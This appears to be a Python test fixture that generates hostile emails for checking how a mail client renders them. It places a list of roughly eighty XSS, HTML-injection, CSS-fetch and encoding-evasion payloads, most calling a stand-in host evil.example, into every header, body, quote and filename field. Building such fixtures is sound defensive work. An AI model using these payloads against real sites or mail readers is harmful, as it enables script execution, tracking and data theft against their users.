"""Mail that wants to act: some sixty ways to make a browser do something, each in every place a mail has for words."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from email.utils import format_datetime

ME = "nora@brightwell-pumps.example"
EVIL = "evil.example"
_DO = f"alert(1);fetch('http://{EVIL}/f')"
_FAR = f"http://{EVIL}/x"

_HANDLERS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "details open ontoggle",
    "marquee onstart",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "iframe onload",
    "object data=x onerror",
    "style onload",
    "svg><animate onbegin",
    "svg><set onbegin",
    "audio src=x onerror",
    "div onpointerrawupdate",
    "p tabindex=1 autofocus onfocus",
)
_FETCHERS = (
    f"<img src={_FAR}>",
    f"<img srcset='{_FAR} 1x'>",
    f"<picture><source srcset={_FAR}><img></picture>",
    f"<video poster={_FAR}></video>",
    f"<audio src={_FAR} autoplay></audio>",
    f"<iframe src={_FAR}></iframe>",
    f"<object data={_FAR}></object>",
    f"<embed src={_FAR}>",
    f"<link rel=stylesheet href={_FAR}>",
    f"<link rel=prefetch href={_FAR}>",
    f"<link rel=dns-prefetch href=//{EVIL}>",
    f"<base href=http://{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<svg><image href={_FAR} /></svg>",
    f"<svg><use href={_FAR}#a /></svg>",
    f"<svg><filter><feImage href={_FAR} /></filter></svg>",
    f"<table background={_FAR}><td>x",
    f"<body background={_FAR}>",
    f"<input type=image src={_FAR}>",
    f"<track src={_FAR}>",
    f"<div hx-get={_FAR} hx-trigger=load>x</div>",
    "<div data-hx-get=/leave data-hx-trigger=load>x</div>",
    f"<form action={_FAR}><button autofocus>x</button></form>",
)
_STYLES = (
    f"<style>@import url({_FAR});</style>",
    f"<style>*{{background:url({_FAR})}}</style>",
    f"<p style='background:url({_FAR})'>x</p>",
    f"<p style='background-image:image-set(\"{_FAR}\" 1x)'>x</p>",
    f"<p style='cursor:url({_FAR}),auto'>x</p>",
    f"<p style='list-style-image:u\\72l({_FAR})'>x</p>",
    f"<p style='content:url({_FAR})'>x</p>",
    f"<style>@font-face{{font-family:a;src:url({_FAR})}}p{{font-family:a}}</style><p>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    f"<style>input[value^=a]{{background:url({_FAR})}}</style>",
    f"<svg><style>@import '{_FAR}';</style></svg>",
)
_BREAKOUTS = (
    f"<script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"--><script>{_DO}</script>",
    f"]]><script>{_DO}</script>",
    f'"><script>{_DO}</script>',
    f"'><img src=x onerror={_DO}>",
    f'" onmouseover="{_DO}" x="',
    f"</textarea><script>{_DO}</script>",
    f"<a href='javascript:{_DO}'>click</a>",
    f"<a href='data:text/html,<script>{_DO}</script>'>click</a>",
    f"<iframe srcdoc='<script>{_DO}</script>'></iframe>",
    f"<object data='data:text/html,<script>{_DO}</script>'></object>",
    f'<noscript><p title="</noscript><img src=x onerror={_DO}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_DO}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_DO}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_DO}>",
    f"<template><script>{_DO}</script></template>",
    f"<xmp><script>{_DO}</script></xmp>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><a xlink:href='javascript:{_DO}'><text y=9>x</a></svg>",
    f"<svg><foreignObject><iframe src='javascript:{_DO}'></foreignObject></svg>",
    "{{7*7}}{% raw %}${alert(1)}",
    f"\\u003cscript\\u003e{_DO}",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-",
    f"<scr\u0000ipt>{_DO}</script>",
    f"<\u202eScript>{_DO}</script>",
    f"<img/src=x/onerror={_DO}>",
    f"<<script>{_DO}//<</script>",
)
PAYLOADS = (*(f"<{handler}={_DO}>" for handler in _HANDLERS), *_FETCHERS, *_STYLES, *_BREAKOUTS)
PLACES = ("name", "subject", "text", "html", "filename", "quoted", "address")


@dataclass(frozen=True, slots=True)
class Sent:
    """A mail: its Message-ID, who wrote it, its bytes."""

    id: str
    sender: str
    raw: bytes


def hostile_mails(now: datetime) -> Iterator[Sent]:
    """Yield a letter of ours and a question of theirs for every payload, which stands in every place of it."""
    for number, payload in enumerate(PAYLOADS):
        them, line = f"person{number}@house{number}.example", payload.replace('"', '\\"')
        first, second = f"first{number}@brightwell-pumps.example", f"second{number}@house{number}.example"
        asked = _head(ME, them, "The pump", now - timedelta(days=12, minutes=number), first)
        yield Sent(first, ME, f"{asked}\nHello, which of the two pumps do you want?\n".encode())
        head = _head(f'"{line}" <{them}>', ME, f"Re: The pump {payload}", now - timedelta(days=9), second)
        head += (
            f'In-Reply-To: <{first}>\nCc: "{line[:60]}"@{EVIL}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n'
        )
        words = (
            f"What does the small one cost? {payload}\n\nOn Monday {ME} wrote:\n> {payload}\n> Hello, which of the two pumps?\n"
        )
        page = f"<html><body><p>What does the small one cost?</p>{payload}<p>Bye</p></body></html>\n"
        parts = (
            (
                'multipart/alternative; boundary="a"',
                f"--a\nContent-Type: text/plain; charset=utf-8\n\n{words}--a\n"
                f"Content-Type: text/html; charset=utf-8\n\n{page}--a--\n",
            ),
            (f'application/pdf\nContent-Disposition: attachment; filename="{line.replace("/", "")}.pdf"', "x\n"),
        )
        body = "".join(f"--b\nContent-Type: {kind}\n\n{content}" for kind, content in parts)
        yield Sent(second, them, f"{head}\n{body}--b--\n".encode())


def as_mbox(mails: list[Sent]) -> bytes:
    """Return mails as one mbox."""
    return b"".join(b"From - Thu Jan  1 00:00:00 2026\n" + mail.raw.replace(b"\nFrom ", b"\n>From ") + b"\n\n" for mail in mails)


def _head(sender: str, to: str, subject: str, at: datetime, name: str) -> str:
    return f"From: {sender}\nTo: {to}\nSubject: {subject}\nDate: {format_datetime(at)}\nMessage-ID: <{name}>\n"
